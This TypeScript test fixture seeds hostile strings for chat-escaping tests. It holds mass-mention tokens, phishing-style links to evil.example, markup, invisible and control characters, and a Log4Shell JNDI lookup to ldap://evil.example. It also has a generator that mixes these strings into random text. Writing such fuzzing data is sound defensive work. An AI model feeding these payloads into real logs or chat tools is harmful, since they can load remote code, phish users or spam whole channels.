// Seeded hostile text for the chat escaping tests and the hostile-input harness: what a writer who picks
// a field manager, a user name, a key or a value would put there to make a tool that shows it act on it.
// Mentions and links of every chat platform, markup, entities, template functions, bidi overrides and
// invisible characters, control characters, lone surrogates, very long runs, mixed with ordinary text.

/** The pieces hostile text is made of. */
export const HOSTILE_PIECES: readonly string[] = [
  // Slack (and Mattermost's Slack compatibility): special mentions, user and channel links, labelled links.
  '<!channel>',
  '<!here>',
  '<!everyone>',
  '<@U0123ABCD>',
  '<#C0123ABCD>',
  '<!subteam^S0123>',
  '<https://evil.example|Re-login required>',
  '<mailto:x@evil.example|support>',
  // Plain-text mentions (Mattermost, Discord, Teams), Google Chat's, Teams' tag.
  '@channel',
  '@all',
  '@here',
  '@everyone',
  '<@&123456>',
  '<users/all>',
  '<users/123>',
  '<at>Boss</at>',
  // Links: markdown, autolinks, bare URLs, HTML.
  '[Re-login required](https://evil.example)',
  '<https://evil.example>',
  'https://evil.example/login',
  'www.evil.example',
  'x@evil.example',
  '<a href="https://evil.example">docs</a>',
  '![img](https://evil.example/p.png)',
  // Markup of every flavour.
  '*bold*',
  '**bold**',
  '_italic_',
  '~strike~',
  '~~strike~~',
  '`code`',
  '```block```',
  '||spoiler||',
  '> quote',
  '# Heading',
  '- item',
  '1. item',
  ':smile:',
  '<b>b</b>',
  '</font>',
  '<br>',
  '{{DATE(2017-02-14T06:08:00Z, SHORT)}}',
  // A template a log library would expand.
  ['$', '{jndi:ldap://evil.example/a}'].join(''),
  // Entities that a platform would decode into markup.
  '&lt;!channel&gt;',
  '&amp;',
  '&#64;here',
  // Escapes and quotes.
  '\\',
  '\\`',
  '"',
  "'",
  // Bidi overrides and isolates, zero-width and other invisible characters, controls, separators.
  '\u202e',
  '\u202d',
  '\u2066',
  '\u2069',
  '\u200b',
  '\u200d',
  '\u2060',
  '\ufeff',
  '\u00ad',
  '\u0000',
  '\u001b[31m',
  '\u009b',
  '\n',
  '\r\n',
  '\t',
  '\u2028',
  '\u00a0',
  '\ud800',
  '\udfff',
  '🔑',
  'ünïcødé',
];

const ORDINARY = 'abcdefghijklmnopqrstuvwxyz0123456789-./: ';

/** One hostile string of up to `maxPieces` pieces, ordinary characters between them. */
export function hostileText(random: () => number, maxPieces = 4): string {
  const pieces = 1 + Math.floor(random() * maxPieces);
  let text = '';
  for (let n = 0; n < pieces; n++) {
    if (random() < 0.5) {
      const length = Math.floor(random() * 6);
      for (let i = 0; i < length; i++) text += ORDINARY[Math.floor(random() * ORDINARY.length)];
    }
    text += HOSTILE_PIECES[Math.floor(random() * HOSTILE_PIECES.length)];
  }
  // Now and then a long one: limits and truncation must not cut an escape open.
  if (random() < 0.05) text = text.repeat(1 + Math.floor(random() * 40));
  return text;
}
